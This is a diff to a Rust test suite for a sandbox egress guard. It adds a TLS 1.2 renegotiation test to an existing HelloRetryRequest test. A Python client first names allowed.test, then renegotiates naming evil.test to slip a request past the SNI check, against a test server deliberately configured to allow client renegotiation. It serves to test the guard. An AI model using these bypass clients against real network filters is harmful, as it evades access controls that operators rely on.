@@ -8,7 +8,7 @@
 //! ClientHello's name also logged on its own), so a test can assert that `evil.test`'s
 //! host received nothing and that no write method reached the read-only host.
 //!
-//! Ports on 203.0.113.10, all guarded (`guard_ports = [80, 443, 8080]`):
+//! Ports on 203.0.113.10, all guarded (`guard_ports = [80, 443, 8080, 8444]`):
 //! - 80: plain HTTP; every method's body is read, `Content-Length` or chunked, the
 //!   chunked decoder reading its lines with `readline()` (a line ends at LF, as in
 //!   Go's net/http before 1.24.2, CVE-2025-22871, and many small servers);
@@ -16,7 +16,9 @@
 //!   reads a body (SimpleHTTPRequestHandler does not), nor does `do_OPTIONS` (a CORS
 //!   preflight answer), `do_POST` reads `Content-Length`;
 //! - 443: TLS with SNI-selected certificates (Python's `ssl`, OpenSSL 3, the context
-//!   switched in the SNI callback as servers do), key shares on P-256 only, HTTP inside.
+//!   switched in the SNI callback as servers do), key shares on P-256 only, HTTP inside;
+//! - 8444: the same, allowing client-initiated TLS 1.2 renegotiation (as OpenSSL 1.1.1
+//!   servers do by default).
 
 use std::{
     fs,
@@ -99,25 +101,32 @@ class S(http.server.ThreadingHTTPServer):
     daemon_threads = True
     allow_reuse_address = True
     def handle_error(self, request, client_address): pass
-contexts = {}
-for name, cert, key in (("allowed.test", allowed_cert, allowed_key), ("evil.test", evil_cert, evil_key)):
-    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-    c.load_cert_chain(cert, key)
-    contexts[name] = c
-base = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-base.load_cert_chain(allowed_cert, allowed_key)
-# Key shares on P-256 only, as many servers (FIPS, and CDNs for groups like X448): a
-# client whose first key share is another group gets a HelloRetryRequest.
-base.set_ecdh_curve("prime256v1")
-def sni(sock, name, ctx):
-    n = norm(name)
-    record({"port": 443, "sni": n})
-    sock.hb_vhost = n
-    if n in contexts:
-        sock.context = contexts[n]
-base.sni_callback = sni
-servers = [S((addr, 80), ReadsBodies), S((addr, 8080), Stdlib), S((addr, 443), Tls)]
-servers[2].socket = base.wrap_socket(servers[2].socket, server_side=True, do_handshake_on_connect=False)
+def tls_contexts(port, renegotiation):
+    contexts = {}
+    for name, cert, key in (("allowed.test", allowed_cert, allowed_key), ("evil.test", evil_cert, evil_key)):
+        c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        c.load_cert_chain(cert, key)
+        contexts[name] = c
+    base = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    base.load_cert_chain(allowed_cert, allowed_key)
+    # Key shares on P-256 only, as many servers (FIPS, and CDNs for groups like X448): a
+    # client whose first key share is another group gets a HelloRetryRequest.
+    base.set_ecdh_curve("prime256v1")
+    if renegotiation:
+        # SSL_OP_ALLOW_CLIENT_RENEGOTIATION: OpenSSL 1.1.1's default, an option in 3.x.
+        for c in [base, *contexts.values()]:
+            c.options |= 0x100
+    def sni(sock, name, ctx):
+        n = norm(name)
+        record({"port": port, "sni": n})
+        sock.hb_vhost = n
+        if n in contexts:
+            sock.context = contexts[n]
+    base.sni_callback = sni
+    return base
+servers = [S((addr, 80), ReadsBodies), S((addr, 8080), Stdlib), S((addr, 443), Tls), S((addr, 8444), Tls)]
+servers[2].socket = tls_contexts(443, False).wrap_socket(servers[2].socket, server_side=True, do_handshake_on_connect=False)
+servers[3].socket = tls_contexts(8444, True).wrap_socket(servers[3].socket, server_side=True, do_handshake_on_connect=False)
 for s in servers:
     threading.Thread(target=s.serve_forever, daemon=True).start()
 print("ready", flush=True)
@@ -205,7 +214,7 @@ fn writes(records: &[Value]) -> Vec<&Value> {
 }
 
 /// The world: namespace, dnsmasq, servers, agent. The policy `web` allows only
-/// `allowed.test` and is guarded on 80, 443 and 8080.
+/// `allowed.test` and is guarded on 80, 443, 8080 and 8444.
 struct World {
     env: TestEnv,
     vhosts: Vhosts,
@@ -251,7 +260,7 @@ exception_cidrs = ["203.0.113.0/24", "2001:db8::/32"]
 name = "web"
 allow_domains = ["allowed.test"]
 guard = {guard}
-guard_ports = [80, 443, 8080]
+guard_ports = [80, 443, 8080, 8444]
 "#
         );
         let mut env = TestEnv::new(name, &config);
@@ -432,13 +441,14 @@ print("attack", got.count(b"HTTP/1.1 200"), repr(got[:200]))
     );
 }
 
-/// A TLS 1.3 client (libssl through ctypes, as any sandboxed program may load it) whose
-/// first ClientHello names allowed.test with a key share the server does not take
+/// TLS clients on libssl through ctypes (as any sandboxed program may load it).
+/// `hrr_request`: a TLS 1.3 client whose first ClientHello names allowed.test with a key share the server does not take
 /// (X25519; the server wants P-256), so the server answers HelloRetryRequest; the
 /// client's second ClientHello names evil.test. The guard judged the first and splices
 /// the rest; OpenSSL runs the SNI callback again on the second ClientHello, the server
 /// switches to evil.test's certificate and virtual host, and the request inside goes
-/// there.
+/// there. `renegotiated_request`: TLS 1.2, a handshake naming `first_name`, then a
+/// renegotiation naming `second_name`.
 const HRR_CLIENT: &str = r#"
 import ctypes
 L = ctypes.CDLL("libssl.so.3")
@@ -450,6 +460,7 @@ L.SSL_ctrl.restype = ctypes.c_long; L.SSL_ctrl.argtypes = [P, ctypes.c_int, ctyp
 L.SSL_CTX_ctrl.restype = ctypes.c_long; L.SSL_CTX_ctrl.argtypes = [P, ctypes.c_int, ctypes.c_long, P]
 L.SSL_set_fd.argtypes = [P, ctypes.c_int]
 L.SSL_connect.argtypes = [P]
+L.SSL_renegotiate.argtypes = [P]; L.SSL_do_handshake.argtypes = [P]
 L.SSL_write.argtypes = [P, ctypes.c_char_p, ctypes.c_int]
 L.SSL_read.argtypes = [P, ctypes.c_char_p, ctypes.c_int]
 MSGCB = ctypes.CFUNCTYPE(None, ctypes.c_int, ctypes.c_int, ctypes.c_int, P, ctypes.c_size_t, P, P)
@@ -481,6 +492,24 @@ def hrr_request(port, first_name, host_header):
     buf = ctypes.create_string_buffer(4096)
     n = L.SSL_read(ssl, buf, 4096)
     return "retried=%d answer=%r" % (len(retried), buf.raw[:max(n, 0)][:80])
+def renegotiated_request(port, first_name, second_name):
+    ctx = L.SSL_CTX_new(L.TLS_client_method())
+    assert L.SSL_CTX_ctrl(ctx, 124, 0x303, None) == 1  # SSL_CTX_set_max_proto_version(TLS 1.2)
+    ssl = L.SSL_new(ctx)
+    s = socket.create_connection((SHARED, port), timeout=5)
+    s.settimeout(None)
+    L.SSL_set_fd(ssl, s.fileno())
+    L.SSL_ctrl(ssl, SET_HOSTNAME, 0, ctypes.c_char_p(first_name))
+    if L.SSL_connect(ssl) != 1:
+        return "handshake failed"
+    L.SSL_ctrl(ssl, SET_HOSTNAME, 0, ctypes.c_char_p(second_name))
+    if L.SSL_renegotiate(ssl) != 1 or L.SSL_do_handshake(ssl) != 1:
+        return "renegotiation failed"
+    req = b"GET /via-renegotiation HTTP/1.1\r\nHost: " + second_name + b"\r\nConnection: close\r\n\r\n"
+    L.SSL_write(ssl, req, len(req))
+    buf = ctypes.create_string_buffer(4096)
+    n = L.SSL_read(ssl, buf, 4096)
+    return "answer=%r" % buf.raw[:max(n, 0)][:80]
 "#;
 
 /// The second ClientHello, after a HelloRetryRequest, names evil.test: the guard only
@@ -504,6 +533,44 @@ print("attack", hrr_request(443, b"allowed.test", b"evil.test"))
         "TLS to allowed.test passes the guard: {out}"
     );
     let records = w.vhosts.settle(|r| r["path"] == "/via-hrr");
+    assert!(
+        records
+            .iter()
+            .any(|r| r["path"] == "/control" && r["vhost"] == "allowed.test"),
+        "the control request arrived: {records:?}"
+    );
+    assert_eq!(
+        reached_evil(&records),
+        Vec::<&Value>::new(),
+        "evil.test's virtual host was reached: {out}"
+    );
+}
+
+/// TLS 1.2 renegotiation: after a handshake naming allowed.test, the client starts a
+/// new handshake inside the session whose ClientHello (encrypted, the guard cannot read
+/// it) names evil.test; a server that allows client-initiated renegotiation runs its
+/// SNI callback again and serves evil.test. The guard can see it happen without
+/// decrypting: in TLS 1.2 the record type stays visible, and a handshake record from
+/// the client after its Finished is a renegotiation.
+#[test]
+fn a_renegotiation_naming_evil_test_never_reaches_evil_test() {
+    let w = World::new("gareneg");
+    let client = HRR_CLIENT.replace("SECOND_NAME", "b\"evil.test\"");
+    let out = w.attack(&script(&format!(
+        r#"
+{client}
+ctl = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctl.check_hostname = False; ctl.verify_mode = ssl.CERT_NONE
+with ctl.wrap_socket(socket.create_connection((SHARED, 8444), timeout=5), server_hostname="allowed.test") as t:
+    t.sendall(b"GET /control HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
+    print("control", recv_all(t).split(b"\r\n")[0].decode())
+print("attack", renegotiated_request(8444, b"allowed.test", b"evil.test"))
+"#
+    )));
+    assert!(
+        out.contains("control HTTP/1.1 200"),
+        "TLS to allowed.test passes the guard: {out}"
+    );
+    let records = w.vhosts.settle(|r| r["path"] == "/via-renegotiation");
     assert!(
         records
             .iter()
